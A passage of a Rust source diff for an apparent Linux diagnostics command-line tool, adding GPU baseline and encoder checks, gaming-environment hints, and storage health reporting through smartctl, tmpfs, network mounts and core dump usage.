+        message: t!("gpu_baseline_delta")
+            .replace("{temp}", &signed(delta.temperature, "°C"))
+            .replace("{load}", &signed(delta.utilization, "%"))
+            .replace("{fan}", &signed(delta.fan_speed_percent, "%"))
+            .replace("{core}", &signed(delta.core_mhz, " MHz"))
+            .replace("{mem}", &signed(delta.mem_mhz, " MHz"))
+            .replace("{power}", &signed(delta.power_w, " W")),
+    }];
+    // Without a comparable load, hotter or slower just means busier or idler
+    let comparable = delta
+        .utilization
+        .is_some_and(|load| load.abs() <= GPU_BASELINE_LOAD_TOLERANCE);
+    if !comparable {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: t!("gpu_baseline_load_differs").to_string(),
+        });
+        return lines;
+    }
+    if let Some(rise) = delta
+        .temperature
+        .filter(|rise| *rise >= GPU_BASELINE_TEMP_RISE_C)
+    {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("gpu_baseline_hotter").replace("{rise}", &format!("{rise:.0}")),
+        });
+    }
+    if let Some(ratio) = delta
+        .core_ratio
+        .filter(|ratio| *ratio < GPU_BASELINE_CLOCK_RATIO)
+    {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("gpu_baseline_slower")
+                .replace("{percent}", &format!("{:.0}", (1.0 - ratio) * 100.0)),
+        });
+    }
+    if lines.len() == 1 {
+        lines.push(InsightLine {
+            level: InsightLevel::Good,
+            message: t!("gpu_baseline_match").to_string(),
+        });
+    }
+    lines
+}
+
+fn current_gpu_reading(metrics: &Metrics) -> Option<baseline::GpuBaseline> {
+    let gpu = metrics.gpu.as_ref()?;
+    Some(gpu_reading(gpu, read_gpu_clocks().first()))
+}
+
+fn save_gpu_baseline(metrics: &Metrics) -> Result<()> {
+    let Some(reading) = current_gpu_reading(metrics) else {
+        println!("{}", t!("gpu_no_data").to_string().yellow());
+        return Ok(());
+    };
+    let path = baseline::baseline_path();
+    let mut store = baseline::load(&path);
+    let band = gpu_band_label(reading.band());
+    store.set_gpu(reading);
+    baseline::save(&path, &store)?;
+    println!(
+        "{}",
+        t!("gpu_baseline_saved")
+            .replace("{band}", &band)
+            .replace("{path}", &path.display().to_string())
+            .green()
+    );
+    println!("{}", t!("gpu_baseline_saved_tip"));
+    Ok(())
+}
+
+fn compare_gpu_baseline(metrics: &Metrics) -> Result<()> {
+    print_header(&t!("gpu_baseline_header"));
+    let header = t!("gpu_baseline_section").to_string();
+    let Some(current) = current_gpu_reading(metrics) else {
+        print_section(&header, Err(t!("gpu_no_data").to_string()));
+        return Ok(());
+    };
+    // Compared against the baseline taken in the same state, idle or loaded
+    let band = gpu_band_label(current.band());
+    let store = baseline::load(&baseline::baseline_path());
+    let Some(saved) = store.gpu(current.band()) else {
+        let missing = t!("gpu_baseline_missing").replace("{band}", &band);
+        print_section(&header, Err(missing));
+        return Ok(());
+    };
+    let mut lines = vec![InsightLine {
+        level: InsightLevel::Info,
+        message: format!("{} {} ({band})", t!("gpu_baseline_from"), saved.saved_at),
+    }];
+    if saved.model != current.model {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("gpu_baseline_other_gpu").to_string(),
+        });
+    }
+    lines.extend(gpu_delta_lines(&gpu_delta(saved, &current)));
+    print_section(&header, Ok(lines));
+    Ok(())
+}
+
+fn gpu_band_label(band: baseline::GpuLoadBand) -> String {
+    match band {
+        baseline::GpuLoadBand::Idle => t!("gpu_band_idle").to_string(),
+        baseline::GpuLoadBand::Load => t!("gpu_band_load").to_string(),
+    }
+}
+
+/// A hardware encode path: NVENC on an NVIDIA GPU, or a VAAPI profile with
+/// an encode entrypoint
+#[derive(Clone, Debug, PartialEq)]
+enum HwEncoder {
+    Nvenc { gpu: String, sessions: u32 },
+    Vaapi { profile: String },
+}
+
+fn read_hw_encoders() -> Option<Vec<HwEncoder>> {
+    hw_encoders(query_nvidia().as_ref())
+}
+
+/// Encoders found by nvidia-smi and vainfo; None when neither tool works,
+/// so "no encoder" is only claimed when something could be asked
+fn hw_encoders(nvidia: Option<&NvidiaQuery>) -> Option<Vec<HwEncoder>> {
+    let nvenc = match nvidia {
+        Some(NvidiaQuery::Rows(rows)) => Some(parse_nvenc_stats(rows)),
+        _ => None,
+    };
+    let vaapi = run_cmd_c_locale("vainfo", &[]).map(|text| {
+        parse_vainfo_encoders(&text)
+            .into_iter()
+            .map(|profile| HwEncoder::Vaapi { profile })
+            .collect::<Vec<_>>()
+    });
+    match (nvenc, vaapi) {
+        (None, None) => None,
+        (nvenc, vaapi) => Some(nvenc.into_iter().chain(vaapi).flatten().collect()),
+    }
+}
+
+/// NVENC session counts from `NVIDIA_QUERY_FIELDS` rows
+fn parse_nvenc_stats(text: &str) -> Vec<HwEncoder> {
+    text.lines()
+        .filter_map(|line| {
+            let parts: Vec<&str> = line.split(',').map(str::trim).collect();
+            Some(HwEncoder::Nvenc {
+                gpu: parts.first().filter(|name| !name.is_empty())?.to_string(),
+                sessions: parts.get(11)?.parse().unwrap_or(0),
+            })
+        })
+        .collect()
+}
+
+/// Profiles listed with an encode entrypoint (`VAEntrypointEncSlice`,
+/// `EncSliceLP`, `EncPicture`) in `vainfo` output
+fn parse_vainfo_encoders(text: &str) -> Vec<String> {
+    let mut profiles: Vec<String> = text
+        .lines()
+        .filter_map(|line| {
+            let (profile, entrypoint) = line.split_once(':')?;
+            let profile = profile.trim();
+            (profile.starts_with("VAProfile") && entrypoint.trim().starts_with("VAEntrypointEnc"))
+                .then(|| profile.to_string())
+        })
+        .collect();
+    profiles.dedup();
+    profiles
+}
+
+fn why_gpu_encoder() -> Result<()> {
+    print_header(&t!("gpu_encoder_header"));
+    let header = t!("gpu_encoder_available_header").to_string();
+    let Some(encoders) = read_hw_encoders() else {
+        print_section(&header, Err(t!("gpu_encoder_tools_missing").to_string()));
+        return Ok(());
+    };
+    print_section(&header, Ok(hw_encoder_lines(&encoders)));
+    Ok(())
+}
+
+fn hw_encoder_lines(encoders: &[HwEncoder]) -> Vec<InsightLine> {
+    if encoders.is_empty() {
+        return vec![InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("gpu_encoder_software_only").to_string(),
+        }];
+    }
+    let mut lines: Vec<InsightLine> = encoders
+        .iter()
+        .map(|encoder| match encoder {
+            HwEncoder::Nvenc { gpu, sessions } => InsightLine {
+                level: InsightLevel::Good,
+                message: t!("gpu_encoder_nvenc")
+                    .replace("{gpu}", gpu)
+                    .replace("{sessions}", &sessions.to_string()),
+            },
+            HwEncoder::Vaapi { profile } => InsightLine {
+                level: InsightLevel::Good,
+                message: t!("gpu_encoder_vaapi").replace("{profile}", profile),
+            },
+        })
+        .collect();
+    let h264 = encoders.iter().any(|encoder| match encoder {
+        HwEncoder::Nvenc { .. } => true,
+        HwEncoder::Vaapi { profile } => profile.starts_with("VAProfileH264"),
+    });
+    if !h264 {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: t!("gpu_encoder_no_h264").to_string(),
+        });
+    }
+    lines
+}
+
+fn vulkan_device_insights(devices: &[VulkanDevice]) -> Vec<InsightLine> {
+    let mut lines: Vec<InsightLine> = devices
+        .iter()
+        .map(|device| InsightLine {
+            level: if device.is_software() {
+                InsightLevel::Info
+            } else {
+                InsightLevel::Good
+            },
+            message: format!(
+                "{} ({}, {})",
+                device.name,
+                device
+                    .device_type
+                    .trim_start_matches("PHYSICAL_DEVICE_TYPE_")
+                    .to_ascii_lowercase(),
+                device.driver.as_deref().unwrap_or("?")
+            ),
+        })
+        .collect();
+    if devices.is_empty() || devices.iter().all(VulkanDevice::is_software) {
+        lines.push(InsightLine {
+            level: InsightLevel::Critical,
+            message: t!("gpu_vulkan_software_only").to_string(),
+        });
+    } else if !devices.iter().any(VulkanDevice::is_discrete) {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("gpu_vulkan_no_discrete").to_string(),
+        });
+    }
+    lines
+}
+
+/// (vendor, high, critical) in °C. AMD reports junction/hotspot temperature,
+/// which runs well above the edge/core temperature NVIDIA and Intel expose.
+const GPU_TEMP_LIMITS: &[(&str, f32, f32)] = &[
+    ("nvidia", 75.0, 85.0),
+    ("amd", 95.0, 105.0),
+    ("intel", 80.0, 95.0),
+];
+const GPU_TEMP_LIMITS_DEFAULT: config::GpuTempLimits = config::GpuTempLimits {
+    high: 75.0,
+    critical: 85.0,
+};
+
+/// Config overrides first, then the bundled per-vendor table
+fn gpu_temp_limits(
+    vendor: &str,
+    overrides: &std::collections::HashMap<String, config::GpuTempLimits>,
+) -> config::GpuTempLimits {
+    let vendor = vendor.to_ascii_lowercase();
+    if let Some(limits) = overrides.get(&vendor) {
+        return *limits;
+    }
+    GPU_TEMP_LIMITS
+        .iter()
+        .find(|(name, _, _)| *name == vendor)
+        .map(|(_, high, critical)| config::GpuTempLimits {
+            high: *high,
+            critical: *critical,
+        })
+        .unwrap_or(GPU_TEMP_LIMITS_DEFAULT)
+}
+
+fn gpu_temp_level(temp: f32, limits: config::GpuTempLimits) -> InsightLevel {
+    if temp > limits.critical {
+        InsightLevel::Critical
+    } else if temp > limits.high {
+        InsightLevel::Warning
+    } else {
+        InsightLevel::Good
+    }
+}
+
+fn why_gpu(metrics: &Metrics, config: &config::Config) -> Result<()> {
+    let thresholds = &config.thresholds;
+    println!("{}", t!("gpu_header").to_string().bold());
+    if metrics.gpu_driver_mismatch == Some(true) {
+        let state = read_nvidia_driver_state().unwrap_or_default();
+        let unknown = || "?".to_string();
+        println!(
+            "{}",
+            t!("gpu_driver_mismatch")
+                .replace("{loaded}", &state.loaded.unwrap_or_else(unknown))
+                .replace("{installed}", &state.installed.unwrap_or_else(unknown))
+                .red()
+                .bold()
+        );
+        println!("{}", t!("gpu_driver_mismatch_fix"));
+    }
+    if let Some(gpu) = metrics.gpu.as_ref() {
+        println!("{} {}", t!("gpu_vendor_label"), gpu.vendor.to_uppercase());
+        if let Some(model) = &gpu.model {
+            println!("{} {}", t!("gpu_model_label"), model);
+        }
+        if let Some(driver) = &gpu.driver {
+            println!("{} {}", t!("gpu_driver_label"), driver);
+        }
+        if let Some(temp) = gpu.temperature {
+            println!("{} {:.1}°C", t!("gpu_temp_label"), temp);
+            let limits = gpu_temp_limits(&gpu.vendor, &config.gpu_temp);
+            match gpu_temp_level(temp, limits) {
+                InsightLevel::Critical => println!(
+                    "{}",
+                    t!("gpu_temp_warning")
+                        .replace("{limit}", &format!("{:.0}", limits.critical))
+                        .red()
+                ),
+                InsightLevel::Warning => println!(
+                    "{}",
+                    t!("gpu_temp_high")
+                        .replace("{limit}", &format!("{:.0}", limits.high))
+                        .yellow()
+                ),
+                _ => {}
+            }
+        }
+        if let Some(util) = gpu.utilization {
+            println!("{} {:.0}%", t!("gpu_util_label"), util);
+            if util > thresholds.gpu_util_warning {
+                println!("{}", t!("gpu_util_warning").to_string().yellow());
+            }
+        }
+        if let Some(mem_util) = gpu.memory_utilization() {
+            println!("{} {:.0}%", t!("gpu_mem_label"), mem_util);
+            if mem_util > thresholds.gpu_mem_warning {
+                println!("{}", t!("gpu_mem_warning").to_string().yellow());
+            }
+        }
+        if let Some(fan) = gpu.fan_speed_percent {
+            println!("{} {:.0}%", t!("gpu_fan_label"), fan);
+            if fan > thresholds.gpu_fan_warning {
+                println!("{}", t!("gpu_fan_warning").to_string().yellow());
+            }
+        }
+
+        // Vendor-specific tips
+        match gpu.vendor.as_str() {
+            "nvidia" => {
+                if metrics.prime_offload_enabled != Some(true) {
+                    println!("{}", t!("gpu_prime_missing").to_string().yellow());
+                } else {
+                    println!("{}", t!("gpu_prime_ok").to_string().green());
+                }
+                println!("{}", t!("gpu_nvidia_tip"));
+            }
+            "amd" => {
+                println!("{}", t!("gpu_amd_tip"));
+                // Check for AMDVLK vs RADV
+                if let Ok(output) = output_with_timeout(
+                    Command::new("vulkaninfo").arg("--summary"),
+                    command_timeout(),
+                ) {
+                    if output.status.success() {
+                        let text = String::from_utf8_lossy(&output.stdout);
+                        if text.contains("AMDVLK") {
+                            println!("{}", t!("gpu_amd_amdvlk").to_string().yellow());
+                        } else if text.contains("RADV") {
+                            println!("{}", t!("gpu_amd_radv").to_string().green());
+                        }
+                    }
+                }
+            }
+            "intel" => {
+                println!("{}", t!("gpu_intel_tip"));
+            }
+            _ => {}
+        }
+    } else {
+        println!("{}", t!("gpu_no_data").to_string().yellow());
+        println!("{}", t!("gpu_install_tools"));
+    }
+    if metrics.vulkan_loader_missing == Some(true) {
+        println!("{}", t!("gpu_vulkan_missing").to_string().yellow());
+    } else {
+        println!("{}", t!("gpu_vulkan_ok").to_string().green());
+    }
+    Ok(())
+}
+
+fn why_gaming(metrics: &Metrics) -> Result<()> {
+    println!("{}", t!("gaming_header").to_string().bold());
+    println!();
+
+    // General gaming environment checks (always run, regardless of Steam)
+
+    // GameMode detection
+    if is_command_available("gamemoderun") {
+        println!("{}", t!("gaming_gamemode_installed").to_string().green());
+    } else {
+        println!("{}", t!("gaming_gamemode_missing").to_string().yellow());
+    }
+
+    // MangoHud detection
+    if is_command_available("mangohud") {
+        println!("{}", t!("gaming_mangohud_installed").to_string().green());
+    } else {
+        println!("{}", t!("gaming_mangohud_missing").to_string().yellow());
+    }
+
+    // Vulkan
+    if metrics.vulkan_loader_missing == Some(true) {
+        println!("{}", t!("gaming_vulkan_missing").to_string().yellow());
+    } else {
+        println!("{}", t!("gaming_vulkan_ok").to_string().green());
+    }
+
+    // Gamescope
+    if metrics.gamescope_running == Some(true) {
+        println!("{}", t!("gaming_gamescope_running").to_string().green());
+    } else {
+        println!("{}", t!("gaming_gamescope_missing").to_string().yellow());
+    }
+
+    println!();
+
+    // GPU-specific gaming checks and warnings
+    if let Some(gpu) = metrics.gpu.as_ref() {
+        match gpu.vendor.as_str() {
+            "nvidia" => {
+                if metrics.prime_offload_enabled != Some(true) {
+                    println!("{}", t!("gaming_prime_needed").to_string().yellow());
+                }
+                // Check for nvidia-settings
+                if !is_command_available("nvidia-settings") {
+                    println!(
+                        "{}",
+                        t!("gaming_nvidia_settings_missing").to_string().yellow()
+                    );
+                }
+            }
+            "amd" => {
+                println!("{}", t!("gaming_amd_tip"));
+            }
+            "intel" => {
+                println!("{}", t!("gaming_intel_tip"));
+            }
+            _ => {}
+        }
+
+        // Performance warnings
+        if let Some(temp) = gpu.temperature {
+            if temp > 80.0 {
+                println!("{}", t!("gaming_gpu_hot_warning").to_string().red());
+            }
+        }
+        if let Some(util) = gpu.memory_utilization() {
+            if util > 85.0 {
+                println!("{}", t!("gaming_vram_warning").to_string().yellow());
+            }
+        }
+    }
+
+    println!();
+
+    // Steam-specific checks (only if Steam is installed)
+    let steam_installed = is_command_available("steam");
+    if steam_installed {
+        println!("{}", t!("gaming_steam_installed").to_string().green());
+
+        if metrics.steam_running == Some(true) {
+            println!("{}", t!("gaming_steam_running").to_string().green());
+
+            // Check for specific games
+            if is_process_running("cs2") || is_process_running("csgo_linux64") {
+                println!("{}", t!("gaming_cs2_detected").to_string().green());
+                println!("{}", t!("gaming_cs2_tip"));
+            }
+        } else {
+            println!("{}", t!("gaming_steam_not_running"));
+        }
+
+        // Proton
+        if metrics.proton_failure_detected == Some(true) {
+            println!("{}", t!("gaming_proton_errors").to_string().red());
+            println!("{}", t!("gaming_proton_fix"));
+        } else {
+            println!("{}", t!("gaming_proton_ok").to_string().green());
+        }
+
+        // Check Proton version
+        if let Some(proton_version) = detect_proton_version() {
+            println!("{} {}", t!("gaming_proton_version"), proton_version);
+        }
+    } else {
+        println!("{}", t!("gaming_steam_missing").to_string().yellow());
+    }
+
+    println!();
+    println!("{}", t!("gaming_tip").bold());
+    let options = steam_launch_options(metrics, detect_hybrid_nvidia(), is_command_available);
+    println!(
+        "{}",
+        t!("gaming_launch_options").replace("{options}", &options)
+    );
+    Ok(())
+}
+
+/// Steam launch options for this machine: PRIME offload variables on hybrid
+/// NVIDIA laptops, the RADV pipeline-library hint on AMD, then whichever of
+/// gamemoderun and mangohud is installed
+fn steam_launch_options(
+    metrics: &Metrics,
+    hybrid_nvidia: bool,
+    available: impl Fn(&str) -> bool,
+) -> String {
+    let vendor = metrics.gpu.as_ref().map(|gpu| gpu.vendor.as_str());
+    let mut parts = Vec::new();
+    match vendor {
+        Some("nvidia") if hybrid_nvidia => parts.extend([
+            "__NV_PRIME_RENDER_OFFLOAD=1",
+            "__GLX_VENDOR_LIBRARY_NAME=nvidia",
+            "__VK_LAYER_NV_optimus=NVIDIA_only",
+        ]),
+        Some("amd") => parts.push("RADV_PERFTEST=gpl"),
+        _ => {}
+    }
+    for tool in ["gamemoderun", "mangohud"] {
+        if available(tool) {
+            parts.push(tool);
+        }
+    }
+    parts.push("%command%");
+    parts.join(" ")
+}
+
+/// NVIDIA next to a GPU of another vendor (Optimus laptops), where games run
+/// on the integrated GPU unless PRIME offload is requested
+fn detect_hybrid_nvidia() -> bool {
+    let Ok(entries) = fs::read_dir("/sys/class/drm") else {
+        return false;
+    };
+    let vendors: HashSet<String> = entries
+        .flatten()
+        .filter(|entry| {
+            let name = entry.file_name().to_string_lossy().to_string();
+            name.starts_with("card") && !name.contains('-')
+        })
+        .filter_map(|entry| fs::read_to_string(entry.path().join("device/vendor")).ok())
+        .map(|vendor| vendor.trim().to_ascii_lowercase())
+        .collect();
+    vendors.contains("0x10de") && vendors.len() > 1
+}
+
+fn why_storage(metrics: &Metrics) -> Result<()> {
+    print_header(&t!("storage_header"));
+    let fs_label = metrics
+        .filesystem
+        .clone()
+        .unwrap_or_else(|| "unknown".into());
+    let overview = t!("storage_overview")
+        .replace("{disk}", &format!("{:.1}", metrics.disk_full_percent))
+        .replace(
+            "{inodes}",
+            &metrics
+                .inode_full_percent
+                .map_or("n/a".to_string(), |used| format!("{used:.0}%")),
+        )
+        .replace("{fs}", &fs_label);
+    if !capturing_sections() {
+        println!("{overview}");
+    }
+
+    let smart_header = t!("storage_smart_header").to_string();
+    print_section(&smart_header, gather_smart_health());
+
+    let raid_header = t!("storage_md_header").to_string();
+    print_section(&raid_header, gather_mdraid_health());
+
+    let btrfs_header = t!("storage_btrfs_header").to_string();
+    print_section(&btrfs_header, gather_btrfs_health());
+
+    let zfs_header = t!("storage_zfs_header").to_string();
+    print_section(&zfs_header, gather_zfs_health());
+
+    let tmpfs_header = t!("storage_tmpfs_header").to_string();
+    print_section(&tmpfs_header, gather_tmpfs_usage());
+
+    let network_header = t!("storage_network_header").to_string();
+    print_section(&network_header, network_mount_lines(metrics));
+
+    let coredump_header = t!("storage_coredump_header").to_string();
+    print_section(&coredump_header, coredump_lines());
+
+    Ok(())
+}
+
+/// `why disk`: findings, then the usual hidden space eater after a crash loop
+fn why_disk(metrics: &Metrics, findings: &[Finding]) {
+    filter_show("Disk", findings);
+    if metrics.coredump_size_mb.unwrap_or(0.0) > 0.0 {
+        let coredump_header = t!("storage_coredump_header").to_string();
+        print_section(&coredump_header, coredump_lines());
+    }
+}
+
+/// Core dump storage worth a warning on its own
+const COREDUMP_WARNING_MB: f32 = 1024.0;
+const SYSTEM_COREDUMP_DIRS: &[&str] = &["/var/lib/systemd/coredump", "/var/crash"];
+
+#[derive(Clone, Copy, Debug, Default, PartialEq)]
+struct DumpUsage {
+    count: u64,
+    bytes: u64,
+}
+
+impl DumpUsage {
+    fn add(&mut self, other: DumpUsage) {
+        self.count += other.count;
+        self.bytes += other.bytes;
+    }
+}
+
+/// Regular files directly in `dir` whose name passes `keep` (no recursion,
+/// symlinks are not followed)
+fn dump_usage(dir: &Path, keep: impl Fn(&str) -> bool) -> DumpUsage {
+    let mut usage = DumpUsage::default();
+    let Ok(entries) = fs::read_dir(dir) else {
+        return usage;
+    };
+    for entry in entries.flatten() {
+        let Ok(meta) = entry.metadata() else {
+            continue;
+        };
+        if meta.is_file() && keep(&entry.file_name().to_string_lossy()) {
+            usage.count += 1;
+            usage.bytes += meta.len();
+        }
+    }
+    usage
+}
+
+/// `core` or `core.<pid>`, as written by the kernel without systemd-coredump
+fn is_core_file_name(name: &str) -> bool {
+    name == "core"
+        || name
+            .strip_prefix("core.")
+            .is_some_and(|pid| !pid.is_empty() && pid.chars().all(|c| c.is_ascii_digit()))
+}
+
+fn coredump_sources() -> Vec<(String, DumpUsage)> {
+    let mut sources: Vec<(String, DumpUsage)> = SYSTEM_COREDUMP_DIRS
+        .iter()
+        .map(|dir| (dir.to_string(), dump_usage(Path::new(dir), |_| true)))
+        .collect();
+    if let Some(home) = user_home_dir() {
+        let usage = dump_usage(&home, is_core_file_name);
+        sources.push((home.display().to_string(), usage));
+    }
+    sources.retain(|(_, usage)| usage.count > 0);
+    sources
+}
+
+/// Total core dump storage; None when no dump location exists at all
+fn coredump_usage() -> Option<DumpUsage> {
+    let any_dir = SYSTEM_COREDUMP_DIRS
+        .iter()
+        .any(|dir| Path::new(dir).is_dir());
+    let sources = coredump_sources();
+    if !any_dir && sources.is_empty() {
+        return None;
+    }
+    let mut total = DumpUsage::default();
+    for (_, usage) in sources {
+        total.add(usage);
+    }
+    Some(total)
+}
+
+fn coredump_lines() -> SectionResult {
+    let sources = coredump_sources();
+    if sources.is_empty() {
+        return Err(t!("storage_coredump_none").to_string());
+    }
+    let mut lines: Vec<InsightLine> = sources
+        .iter()
+        .map(|(path, usage)| {
+            let size_mb = usage.bytes as f32 / (1024.0 * 1024.0);
+            InsightLine {
+                level: if size_mb >= COREDUMP_WARNING_MB {
+                    InsightLevel::Warning
+                } else {
+                    InsightLevel::Info
+                },
+                message: t!("storage_coredump_usage")
+                    .replace("{path}", path)
+                    .replace("{count}", &usage.count.to_string())
+                    .replace("{size}", &format_bytes(usage.bytes)),
+            }
+        })
+        .collect();
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("storage_coredump_tip").to_string(),
+    });
+    Ok(lines)
+}
+
+/// Uses the stale list from gather() so nothing here touches the mounts again
+fn network_mount_lines(metrics: &Metrics) -> SectionResult {
+    let mounts = fs::read_to_string("/proc/mounts")
+        .map(|data| network_mounts(&parse_mounts(&data)))
+        .unwrap_or_default();
+    if mounts.is_empty() {
+        return Err(t!("storage_network_none").to_string());
+    }
+    Ok(mounts
+        .into_iter()
+        .map(|mount| {
+            if metrics
+                .stale_mounts
+                .iter()
+                .flatten()
+                .any(|stale| *stale == mount.mount_point)
+            {
+                InsightLine {
+                    level: InsightLevel::Critical,
+                    message: t!("storage_network_stale")
+                        .replace("{mount}", &mount.mount_point)
+                        .replace("{fs}", &mount.fs_type),
+                }
+            } else {
+                InsightLine {
+                    level: InsightLevel::Good,
+                    message: format!("{} ({})", mount.mount_point, mount.fs_type),
+                }
+            }
+        })
+        .collect())
+}
+
+/// /tmp and /dev/shm first, then any other tmpfs mount that is filling up
+fn gather_tmpfs_usage() -> SectionResult {
+    let mut usage = mount_usage(&tmpfs_mounts());
+    if usage.is_empty() {
+        return Err(t!("storage_tmpfs_none").to_string());
+    }
+    usage.sort_by_key(|(mount, _)| match mount.as_str() {
+        "/tmp" => 0,
+        "/dev/shm" => 1,
+        _ => 2,
+    });
+
+    let lines = usage
+        .into_iter()
+        .filter(|(mount, percent)| mount == "/tmp" || mount == "/dev/shm" || *percent >= 80.0)
+        .map(|(mount, percent)| {
+            let level = if percent >= 95.0 {
+                InsightLevel::Critical
+            } else if percent >= 80.0 {
+                InsightLevel::Warning
+            } else {
+                InsightLevel::Good
+            };
+            let template = if percent >= 80.0 {
+                t!("storage_tmpfs_full")
+            } else {
+                t!("storage_tmpfs_usage")
+            };
+            InsightLine {
+                level,
+                message: template
+                    .replace("{mount}", &mount)
+                    .replace("{usage}", &format!("{percent:.0}")),
+            }
+        })
+        .collect::<Vec<_>>();
+    if lines.is_empty() {
+        return Err(t!("storage_tmpfs_none").to_string());
+    }
+    Ok(lines)
+}
+
+/// Devices reported by `smartctl --scan-open`
+fn smart_devices() -> Result<Vec<String>, String> {
+    if !is_command_available("smartctl") {
+        return Err(t!("storage_smart_missing").to_string());
+    }
+
+    let scan = output_with_timeout(
+        Command::new("smartctl").args(["--scan-open"]),
+        command_timeout(),
+    )
+    .map_err(|_| t!("storage_smart_missing").to_string())?;
+    if !scan.status.success() {
+        return Err(String::from_utf8_lossy(&scan.stderr).trim().to_string());
+    }
+
+    let mut devices = Vec::new();
+    for line in String::from_utf8_lossy(&scan.stdout).lines() {
+        let device = line.split_whitespace().next().unwrap_or_default().trim();
+        if device.is_empty() || device.starts_with('#') {
+            continue;
+        }
+        devices.push(device.to_string());
+    }
+    devices.sort();
+    devices.dedup();
+    if devices.is_empty() {
+        return Err(t!("storage_smart_no_devices").to_string());
+    }
+    Ok(devices)
+}
+
+fn gather_smart_health() -> SectionResult {
+    let devices = smart_devices()?;
+    let mut lines = Vec::new();
+    for device in devices.into_iter().take(8) {
+        let output = output_with_timeout(
+            Command::new("smartctl").args(["-H", &device]),
+            command_timeout(),
+        );
+        match output {
+            Ok(out) if out.status.success() => {
+                let text = String::from_utf8_lossy(&out.stdout).to_ascii_lowercase();
+                let mut level = InsightLevel::Info;
+                let mut status = "UNKNOWN".to_string();
+                if text.contains("passed") {
+                    level = InsightLevel::Good;
+                    status = "PASSED".into();
+                }
+                if text.contains("failed") {
+                    level = InsightLevel::Critical;
+                    status = "FAILED".into();
+                } else if text.contains("prefail") {
+                    level = InsightLevel::Warning;
+                    status = "PRE-FAIL".into();
+                }
+                lines.push(InsightLine {
+                    level,
+                    message: format!("{device}: SMART {status}"),
+                });
+            }
+            Ok(out) => {
+                let err = String::from_utf8_lossy(&out.stderr);
+                let fallback = if err.trim().is_empty() {
+                    "smartctl -H requires root privileges".into()
+                } else {
+                    err.trim().to_string()
+                };
+                lines.push(InsightLine {
+                    level: InsightLevel::Warning,
+                    message: format!("{device}: {fallback}"),
+                });
+            }
+            Err(_) => lines.push(InsightLine {
+                level: InsightLevel::Warning,
+                message: format!("{device}: smartctl invocation failed"),
+            }),
+        }
+    }
+    Ok(lines)
+}
+
+#[derive(Clone, Copy, Debug, PartialEq)]
+enum SmartField {
+    Temperature,
+    PowerOnHours,
+    ReallocatedSectors,
+    PendingSectors,
+    UncorrectableSectors,
+    /// Percent of rated endurance used
+    WearUsed,
+    AvailableSpare,
+    MediaErrors,
+    UnsafeShutdowns,
+}
+
+impl SmartField {
+    fn label(self) -> String {
+        match self {
+            SmartField::Temperature => t!("smart_attr_temperature"),
+            SmartField::PowerOnHours => t!("smart_attr_power_on_hours"),
+            SmartField::ReallocatedSectors => t!("smart_attr_reallocated"),
+            SmartField::PendingSectors => t!("smart_attr_pending"),
+            SmartField::UncorrectableSectors => t!("smart_attr_uncorrectable"),
+            SmartField::WearUsed => t!("smart_attr_wear"),
+            SmartField::AvailableSpare => t!("smart_attr_spare"),
+            SmartField::MediaErrors => t!("smart_attr_media_errors"),
+            SmartField::UnsafeShutdowns => t!("smart_attr_unsafe_shutdowns"),
+        }
+        .to_string()
+    }
+
+    fn format_value(self, value: u64) -> String {
+        match self {
+            SmartField::Temperature => format!("{value}°C"),
+            SmartField::PowerOnHours => format!("{value} h (~{:.1} years)", value as f64 / 8766.0),
+            SmartField::WearUsed | SmartField::AvailableSpare => format!("{value}%"),
+            _ => value.to_string(),
+        }
+    }
+
+    fn level(self, value: u64) -> InsightLevel {
+        match self {
+            SmartField::ReallocatedSectors
+            | SmartField::PendingSectors
+            | SmartField::UncorrectableSectors
+            | SmartField::MediaErrors
+                if value > 0 =>
+            {
+                InsightLevel::Warning
+            }
+            SmartField::WearUsed if value >= 90 => InsightLevel::Warning,
+            SmartField::AvailableSpare if value <= 10 => InsightLevel::Warning,
+            SmartField::Temperature if value >= 70 => InsightLevel::Warning,
+            _ => InsightLevel::Info,
+        }
+    }
+}
+
+/// Leading integer of a raw SMART value ("36 (Min/Max 18/53)", "5,432", "1234h+05m")
+fn smart_leading_number(raw: &str) -> Option<u64> {
+    let digits: String = raw
+        .trim()
+        .chars()
+        .take_while(|c| c.is_ascii_digit() || *c == ',')
+        .filter(|c| *c != ',')
+        .collect();
+    digits.parse().ok()
+}
+
+/// Human-relevant attributes from `smartctl -A` (SATA attribute table or NVMe health log)
+fn parse_smart_attributes(text: &str) -> Vec<(SmartField, u64)> {
+    let mut attrs: Vec<(SmartField, u64)> = Vec::new();
+    let mut push = |field: SmartField, value: Option<u64>| {
+        if let Some(value) = value {
+            if !attrs.iter().any(|(existing, _)| *existing == field) {
+                attrs.push((field, value));
+            }
+        }
+    };
+    for line in text.lines() {
+        let trimmed = line.trim();
+        // NVMe: "Power On Hours:   5,432"
+        if let Some((key, value)) = trimmed.split_once(':') {
+            let field = match key.trim() {
+                "Temperature" => Some(SmartField::Temperature),
+                "Power On Hours" => Some(SmartField::PowerOnHours),
+                "Percentage Used" => Some(SmartField::WearUsed),
+                "Available Spare" => Some(SmartField::AvailableSpare),
+                "Media and Data Integrity Errors" => Some(SmartField::MediaErrors),
+                "Unsafe Shutdowns" => Some(SmartField::UnsafeShutdowns),
+                _ => None,
+            };
+            if let Some(field) = field {
+                push(field, smart_leading_number(value));
+                continue;
+            }
+        }
+        // SATA: "ID# ATTRIBUTE_NAME FLAG VALUE WORST THRESH TYPE UPDATED WHEN_FAILED RAW_VALUE"
+        let cols: Vec<&str> = trimmed.split_whitespace().collect();
+        if cols.len() < 10 || cols[0].parse::<u32>().is_err() {
+            continue;
+        }
+        let normalized = cols[3].parse::<u64>().ok();
+        let raw = smart_leading_number(&cols[9..].join(" "));
+        match cols[1] {
+            "Temperature_Celsius" | "Airflow_Temperature_Cel" => push(SmartField::Temperature, raw),
+            "Power_On_Hours" => push(SmartField::PowerOnHours, raw),
+            "Reallocated_Sector_Ct" => push(SmartField::ReallocatedSectors, raw),
+            "Current_Pending_Sector" => push(SmartField::PendingSectors, raw),
